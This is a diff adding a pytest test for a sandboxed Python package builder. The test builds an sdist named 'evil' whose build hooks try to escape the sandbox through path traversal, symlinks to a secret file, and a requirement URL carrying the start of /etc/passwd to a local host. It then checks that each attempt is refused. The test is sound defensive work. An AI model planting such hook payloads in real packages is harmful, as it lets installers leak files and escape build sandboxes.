@@ -166,6 +166,60 @@ def test_what_is_built_here_is_noted_with_the_way_to_refuse_it(
     assert "built here, by their own code: `source-1.0.tar.gz`; `--only-binary` refuses this" in ended.stderr
 
 
+@pytest.mark.parametrize(
+    ("hook", "body", "fault"),
+    [
+        pytest.param(
+            "build_wheel", "return '../' * 20 + {secret!r}", "a path outside of its directory", id="wheel"
+        ),
+        pytest.param(
+            "build_wheel",
+            "import os; os.symlink({secret!r}, os.path.join(wheel_directory, 'evil-1.0-py3-none-any.whl')); "
+            "return 'evil-1.0-py3-none-any.whl'",
+            "a symbolic link",
+            id="wheel-link",
+        ),
+        pytest.param(
+            "prepare_metadata_for_build_wheel",
+            "import os; path = os.path.join(metadata_directory, 'evil-1.0.dist-info'); os.mkdir(path); "
+            "os.symlink({secret!r}, os.path.join(path, 'METADATA')); return 'evil-1.0.dist-info'",
+            "a symbolic link",
+            id="metadata-link",
+        ),
+        pytest.param(
+            "get_requires_for_build_wheel",
+            "return ['x @ http://127.0.0.1:9/' + open('/etc/passwd').read()[:4]]",
+            "a requirement that is not a name",
+            id="requirement-url",
+        ),
+    ],
+)
+def test_the_answer_of_a_hook_does_not_lead_pip_out_of_the_sandbox(
+    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path, hook: str, body: str, fault: str
+) -> None:
+    """pip runs outside, and moves, reads or fetches what a hook names."""
+    secret = tmp_path / "secret"
+    secret.write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\nSummary: secret\n")
+    arguments = "metadata_directory" if hook.startswith("prepare") else "wheel_directory"
+    arguments = (
+        "" if hook.startswith("get") else f"{arguments}, config_settings=None, metadata_directory=None"
+    )
+    arguments = arguments.replace(
+        "metadata_directory, config_settings=None, metadata_directory=None",
+        "metadata_directory, config_settings=None",
+    )
+    backend = f"from setuptools.build_meta import *\ndef {hook}({arguments or 'config_settings=None'}):\n    {body.format(secret=str(secret))}\n"
+    project = '[build-system]\nrequires = ["setuptools", "wheel"]\nbuild-backend = "backend"\nbackend-path = ["."]\n'
+    setup = "from setuptools import setup\nsetup(name='evil', version='1.0', py_modules=['evil'])\n"
+    files = {"pyproject.toml": project, "backend.py": backend, "evil.py": ""}
+    make_sdist(index.folder, "evil", "1.0", files, setup_py=setup)
+    ended = bundler_cli.run("build", "evil", cwd=tmp_path)
+
+    assert ended.returncode == 4, ended.stderr
+    assert f"a build backend returned {fault}" in ended.stderr
+    assert secret.read_text().endswith("Summary: secret\n")
+
+
 @pytest.mark.parametrize("version", ["3.7", "3.12"])
 def test_build_requirements_of_build_requirements_run_in_the_sandbox(
     index: LocalIndex, bundler_cli: BundlerCli, pythons: dict[str, Path], tmp_path: Path, version: str
